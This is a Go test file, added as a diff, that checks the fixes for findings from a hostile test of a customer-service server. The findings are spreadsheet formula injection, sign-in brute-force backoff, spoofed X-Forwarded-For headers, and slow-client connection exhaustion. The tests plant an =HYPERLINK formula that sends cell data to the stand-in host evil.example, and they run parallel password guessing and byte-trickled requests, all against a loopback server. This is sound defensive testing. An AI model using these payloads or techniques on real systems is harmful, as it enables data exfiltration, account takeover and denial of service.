@@ -1,0 +1,413 @@
+package main
+
+// The security suite (issue 15): each test reproduces one finding of a hostile test against the
+// real server (serve) on a loopback port, with bounded loops, and checks the fix. Run them alone
+// with `go test ./cmd/kefu -run Security`.
+
+import (
+	"bytes"
+	"context"
+	"encoding/csv"
+	"errors"
+	"fmt"
+	"io"
+	"log/slog"
+	"net"
+	"net/http"
+	"net/http/cookiejar"
+	"net/url"
+	"os"
+	"path/filepath"
+	"regexp"
+	"strings"
+	"sync"
+	"testing"
+	"time"
+
+	"github.com/xuri/excelize/v2"
+	"golang.org/x/crypto/bcrypt"
+
+	"github.com/kefu-dev/kefu/console"
+	"github.com/kefu-dev/kefu/storage"
+)
+
+var securityCSRF = regexp.MustCompile(`name="csrf" value="([^"]+)"`)
+
+// consoleClient signs in to the server's console as a new account of role and returns the client.
+func consoleClient(t *testing.T, s *journeyServer, name, role, pw string) *http.Client {
+	t.Helper()
+	hash, err := console.HashPassword(pw, bcrypt.MinCost)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if _, err := s.db.CreateUser(context.Background(), storage.User{Name: name, Role: role, PasswordHash: hash}); err != nil {
+		t.Fatal(err)
+	}
+	jar, _ := cookiejar.New(nil)
+	c := &http.Client{Jar: jar, CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }}
+	code, _ := consoleSignIn(t, c, s.url, name, pw)
+	if code != http.StatusSeeOther {
+		t.Fatalf("sign in as %s: %d", name, code)
+	}
+	return c
+}
+
+// consoleSignIn posts the sign-in form (fetching its CSRF token first) and returns the status and body.
+func consoleSignIn(t testing.TB, c *http.Client, base, name, pw string, hdr ...string) (int, string) {
+	t.Helper()
+	resp, err := c.Get(base + "/console/login")
+	if err != nil {
+		t.Fatal(err)
+	}
+	b, _ := io.ReadAll(resp.Body)
+	resp.Body.Close()
+	m := securityCSRF.FindStringSubmatch(string(b))
+	if m == nil {
+		t.Fatalf("no csrf token on the sign-in page: %s", b)
+	}
+	form := url.Values{"csrf": {m[1]}, "name": {name}, "password": {pw}}
+	req, _ := http.NewRequest(http.MethodPost, base+"/console/login", strings.NewReader(form.Encode()))
+	req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
+	for i := 0; i+1 < len(hdr); i += 2 {
+		req.Header.Set(hdr[i], hdr[i+1])
+	}
+	resp, err = c.Do(req)
+	if err != nil {
+		t.Fatal(err)
+	}
+	b, _ = io.ReadAll(resp.Body)
+	resp.Body.Close()
+	return resp.StatusCode, string(b)
+}
+
+// checkNoFormula fails when any cell begins with a character a spreadsheet takes as a formula.
+func checkNoFormula(t *testing.T, what string, rows [][]string, planted string) {
+	t.Helper()
+	found := false
+	for _, row := range rows {
+		for _, cell := range row {
+			if strings.Contains(cell, planted) {
+				found = true
+			}
+			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
+				t.Errorf("%s: cell %q would be evaluated as a formula", what, cell)
+			}
+		}
+	}
+	if !found {
+		t.Errorf("%s: the customer's text %q is missing (rows %q)", what, planted, rows)
+	}
+}
+
+// TestSecurityCSVFormulaInjection (finding 1): a customer's formula in a ticket's description and
+// survey comment must reach the exports as text, neutralized, in the CLI's CSV and .xlsx and the
+// console's CSV.
+func TestSecurityCSVFormulaInjection(t *testing.T) {
+	dsn := filepath.Join(t.TempDir(), "kefu.db")
+	s := startJourneyServer(t, dsn, nil, nil)
+	const evil = `=HYPERLINK("http://evil.example/?x="&C2,"点击")`
+	// As in the finding: the formula, then 转人工 (the ticket's summary and description are the formula).
+	sess := s.session()
+	s.say(sess, nil, evil)
+	r := s.say(sess, nil, "转人工")
+	no := ticketNo.FindString(r[len(r)-1].Text)
+	if no == "" {
+		t.Fatalf("no ticket number in %+v", r)
+	}
+	s.cli("claim", no)
+	s.cli("resolve", no, "-1+1 更换电机")
+	ask := s.poll(sess, r[len(r)-1].ID, no)
+	r = s.say(sess, []reply{ask}, "!已解决")
+	r = s.say(sess, r, "!4")
+	s.say(sess, r, "@SUM(1+1) 师傅很专业")
+	if show := s.cli("show", no); !strings.Contains(show, "@SUM(1+1)") {
+		t.Fatalf("the survey comment did not reach the ticket:\n%s", show)
+	}
+
+	env := func(k string) string {
+		if k == "KEFU_DATABASE_URL" {
+			return dsn
+		}
+		return ""
+	}
+	var out bytes.Buffer
+	csvPath := filepath.Join(t.TempDir(), "t.csv")
+	if err := runExport(context.Background(), []string{"tickets", "--from", "2000-01-01", "--to", "2100-01-01", "--format", "csv", "-o", csvPath}, &out, env); err != nil {
+		t.Fatal(err)
+	}
+	checkNoFormula(t, "kefu export tickets --format csv", readCSV(t, mustRead(t, csvPath)), "HYPERLINK")
+
+	xlsxPath := filepath.Join(t.TempDir(), "t.xlsx")
+	if err := runExport(context.Background(), []string{"tickets", "--from", "2000-01-01", "--to", "2100-01-01", "-o", xlsxPath}, &out, env); err != nil {
+		t.Fatal(err)
+	}
+	x, err := excelize.OpenFile(xlsxPath)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer x.Close()
+	for _, sheet := range []string{"Tickets", "Events"} {
+		rows, err := x.GetRows(sheet)
+		if err != nil {
+			t.Fatal(err)
+		}
+		checkNoFormula(t, "xlsx sheet "+sheet, rows, "HYPERLINK")
+	}
+
+	c := consoleClient(t, s, "sup", "supervisor", "sup-password-1")
+	resp, err := c.Get(s.url + "/console/export/tickets?from=2000-01-01&to=2100-01-01")
+	if err != nil {
+		t.Fatal(err)
+	}
+	b, _ := io.ReadAll(resp.Body)
+	resp.Body.Close()
+	if resp.StatusCode != http.StatusOK {
+		t.Fatalf("console CSV: %d %s", resp.StatusCode, b)
+	}
+	rows := readCSV(t, string(b))
+	if !strings.Contains(string(b), `'=HYPERLINK`) || !strings.Contains(string(b), "'@SUM") {
+		t.Errorf("console CSV: want the formulas quoted as text ('=HYPERLINK, '@SUM):\n%s", b)
+	}
+	checkNoFormula(t, "console CSV", rows, "HYPERLINK")
+	checkNoFormula(t, "console CSV", rows, "@SUM(1+1)")
+}
+
+func readCSV(t *testing.T, s string) [][]string {
+	t.Helper()
+	rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(s, "\ufeff"))).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	return rows
+}
+
+func mustRead(t *testing.T, path string) string {
+	t.Helper()
+	b, err := os.ReadFile(path)
+	if err != nil {
+		t.Fatal(err)
+	}
+	return string(b)
+}
+
+// logBuffer collects a server's log lines (safe for concurrent writers).
+type logBuffer struct {
+	mu sync.Mutex
+	b  bytes.Buffer
+}
+
+func (l *logBuffer) Write(p []byte) (int, error) {
+	l.mu.Lock()
+	defer l.mu.Unlock()
+	return l.b.Write(p)
+}
+
+func (l *logBuffer) String() string {
+	l.mu.Lock()
+	defer l.mu.Unlock()
+	return l.b.String()
+}
+
+// securityServer runs serve on a fresh SQLite database with mod applied to the default
+// configuration, logging JSON into the returned buffer.
+func securityServer(t *testing.T, mod func(*Config)) (*journeyServer, *logBuffer) {
+	t.Helper()
+	dsn := filepath.Join(t.TempDir(), "kefu.db")
+	cfg, err := loadConfig("", func(k string) string {
+		if k == "KEFU_DATABASE_URL" {
+			return dsn
+		}
+		return ""
+	})
+	if err != nil {
+		t.Fatal(err)
+	}
+	cfg.Outbox.PollInterval = 20 * time.Millisecond
+	if mod != nil {
+		mod(&cfg)
+	}
+	logs := &logBuffer{}
+	logger := slog.New(slog.NewJSONHandler(logs, &slog.HandlerOptions{Level: slog.LevelDebug}))
+	ln, err := net.Listen("tcp", "127.0.0.1:0")
+	if err != nil {
+		t.Fatal(err)
+	}
+	ctx, cancel := context.WithCancel(context.Background())
+	done := make(chan error, 1)
+	banner := &logBuffer{}
+	go func() { done <- serve(ctx, cfg, ln, logger, banner) }()
+	s := &e2eServer{t: t, url: "http://" + ln.Addr().String(), dbURL: dsn}
+	s.stop = func() {
+		cancel()
+		select {
+		case <-done:
+		case <-time.After(15 * time.Second):
+			t.Error("serve did not stop within 15s of cancel")
+		}
+	}
+	t.Cleanup(s.stop)
+	waitFor(t, "server ready", func() bool {
+		resp, err := http.Get(s.url + "/healthz")
+		if err != nil {
+			return false
+		}
+		resp.Body.Close()
+		return resp.StatusCode == http.StatusOK
+	})
+	return &journeyServer{e2eServer: s, db: openTestDB(t, dsn)}, logs
+}
+
+// TestSecuritySignInBackoff (finding 2): parallel wrong passwords are not all evaluated; afterwards
+// the real user (another client behind the trusted proxy) signs in after a short delay at most,
+// another user from the proxy at once; X-Forwarded-For from an untrusted peer is ignored; the log
+// never holds the typed user name.
+func TestSecuritySignInBackoff(t *testing.T) {
+	s, logs := securityServer(t, func(c *Config) { c.Security.TrustedProxies = []string{"127.0.0.1"} })
+	for _, u := range []string{"victim", "bystander"} {
+		hash, _ := console.HashPassword("right-password-"+u, bcrypt.MinCost)
+		if _, err := s.db.CreateUser(context.Background(), storage.User{Name: u, Role: "agent", PasswordHash: hash}); err != nil {
+			t.Fatal(err)
+		}
+	}
+	newClient := func() *http.Client {
+		jar, _ := cookiejar.New(nil)
+		return &http.Client{Jar: jar, CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }}
+	}
+	const attacker = "198.51.100.66"
+	var wg sync.WaitGroup
+	var mu sync.Mutex
+	codes := map[int]int{}
+	for i := 0; i < 40; i++ {
+		wg.Add(1)
+		go func() {
+			defer wg.Done()
+			code, _ := consoleSignIn(t, newClient(), s.url, "victim", fmt.Sprintf("guess-%02d-password", i), "X-Forwarded-For", attacker)
+			mu.Lock()
+			codes[code]++
+			mu.Unlock()
+		}()
+	}
+	wg.Wait()
+	if codes[http.StatusUnauthorized] > 4 || codes[http.StatusUnauthorized]+codes[http.StatusTooManyRequests] != 40 {
+		t.Errorf("40 parallel guesses: %v; want at most 4 evaluated (401), the rest 429", codes)
+	}
+
+	// Another user behind the same proxy, another client: not slowed at all.
+	if code, _ := consoleSignIn(t, newClient(), s.url, "bystander", "right-password-bystander", "X-Forwarded-For", "203.0.113.9"); code != http.StatusSeeOther {
+		t.Errorf("another user from another client after the attack: %d, want 303", code)
+	}
+	// The real user from their own client: in within a short delay (the account's cap is 10 s).
+	start := time.Now()
+	for {
+		code, _ := consoleSignIn(t, newClient(), s.url, "victim", "right-password-victim", "X-Forwarded-For", "203.0.113.10")
+		if code == http.StatusSeeOther {
+			break
+		}
+		if code != http.StatusTooManyRequests || time.Since(start) > 12*time.Second {
+			t.Fatalf("the real user after %v: %d, want a sign-in within the short account delay", time.Since(start), code)
+		}
+		time.Sleep(250 * time.Millisecond)
+	}
+	// The attacking client stays slowed down: of two quick guesses at most one is evaluated.
+	consoleSignIn(t, newClient(), s.url, "bystander", "wrong-password", "X-Forwarded-For", attacker)
+	if code, _ := consoleSignIn(t, newClient(), s.url, "bystander", "wrong-password", "X-Forwarded-For", attacker); code != http.StatusTooManyRequests {
+		t.Errorf("the attacking client's second quick guess after the attack: %d, want 429", code)
+	}
+
+	// No trusted proxy: a client cannot choose its address with X-Forwarded-For.
+	s2, _ := securityServer(t, nil)
+	spoofed := map[int]int{}
+	for i := 0; i < 8; i++ {
+		code, _ := consoleSignIn(t, newClient(), s2.url, fmt.Sprintf("nobody%d", i), "wrong-password", "X-Forwarded-For", fmt.Sprintf("192.0.2.%d", i))
+		spoofed[code]++
+	}
+	if spoofed[http.StatusTooManyRequests] == 0 {
+		t.Errorf("spoofed X-Forwarded-For without trusted proxies: %v; want the client slowed down (429)", spoofed)
+	}
+
+	// The typed user name never reaches the log verbatim.
+	const typed = "Tr0ub4dor&3-typed-into-the-name-field"
+	consoleSignIn(t, newClient(), s.url, typed, "whatever-password", "X-Forwarded-For", "203.0.113.77")
+	waitWithin(t, 5*time.Second, "the failed sign-in in the log", func() bool { return strings.Contains(logs.String(), "sign-in failed") })
+	if strings.Contains(logs.String(), typed) || strings.Contains(logs.String(), "Tr0ub4dor") {
+		t.Errorf("the typed user name is in the log:\n%s", logs.String())
+	}
+}
+
+// TestSecuritySlowClients (finding 5): idle keep-alive connections and bodies trickled a byte at a
+// time are cut off by the server's timeouts, and open connections are capped.
+func TestSecuritySlowClients(t *testing.T) {
+	s, _ := securityServer(t, func(c *Config) {
+		c.Security.HTTP.ReadTimeout = time.Second
+		c.Security.HTTP.IdleTimeout = time.Second
+		c.Security.HTTP.MaxConnections = 5
+	})
+	addr := strings.TrimPrefix(s.url, "http://")
+	closedWithin := func(c net.Conn, d time.Duration) bool {
+		c.SetReadDeadline(time.Now().Add(d))
+		buf := make([]byte, 4096)
+		for {
+			if _, err := c.Read(buf); err != nil {
+				var ne net.Error
+				return !(errors.As(err, &ne) && ne.Timeout()) // EOF or reset: the server closed it
+			}
+		}
+	}
+
+	// An idle keep-alive connection after one request.
+	c, err := net.Dial("tcp", addr)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer c.Close()
+	fmt.Fprintf(c, "GET /healthz HTTP/1.1\r\nHost: x\r\n\r\n")
+	if !closedWithin(c, 4*time.Second) {
+		t.Error("an idle keep-alive connection stayed open past the idle timeout")
+	}
+
+	// A body trickled one byte every 300 ms (Content-Length 100 would take 30 s).
+	c2, err := net.Dial("tcp", addr)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer c2.Close()
+	fmt.Fprintf(c2, "POST /api/webchat/sessions HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 100\r\n\r\n")
+	start := time.Now()
+	for i := 0; i < 20; i++ { // bounded: 6 s at most
+		if _, err := c2.Write([]byte(" ")); err != nil {
+			break
+		}
+		time.Sleep(300 * time.Millisecond)
+	}
+	if !closedWithin(c2, 2*time.Second) || time.Since(start) > 7*time.Second {
+		t.Errorf("a trickled body kept its connection for %v, want it cut at the read timeout", time.Since(start))
+	}
+
+	// The connection cap: 5 silent connections hold every slot; a sixth request waits until one goes.
+	var held []net.Conn
+	for i := 0; i < 5; i++ {
+		hc, err := net.Dial("tcp", addr)
+		if err != nil {
+			t.Fatal(err)
+		}
+		defer hc.Close()
+		held = append(held, hc)
+	}
+	time.Sleep(100 * time.Millisecond) // let the server accept them
+	quick := &http.Client{Timeout: 300 * time.Millisecond, Transport: &http.Transport{DisableKeepAlives: true}}
+	if resp, err := quick.Get(s.url + "/healthz"); err == nil {
+		resp.Body.Close()
+		t.Error("a sixth connection was served while 5 (the cap) were open")
+	}
+	for _, hc := range held {
+		hc.Close()
+	}
+	waitWithin(t, 5*time.Second, "a request after the held connections closed", func() bool {
+		resp, err := quick.Get(s.url + "/healthz")
+		if err != nil {
+			return false
+		}
+		resp.Body.Close()
+		return resp.StatusCode == http.StatusOK
+	})
+}
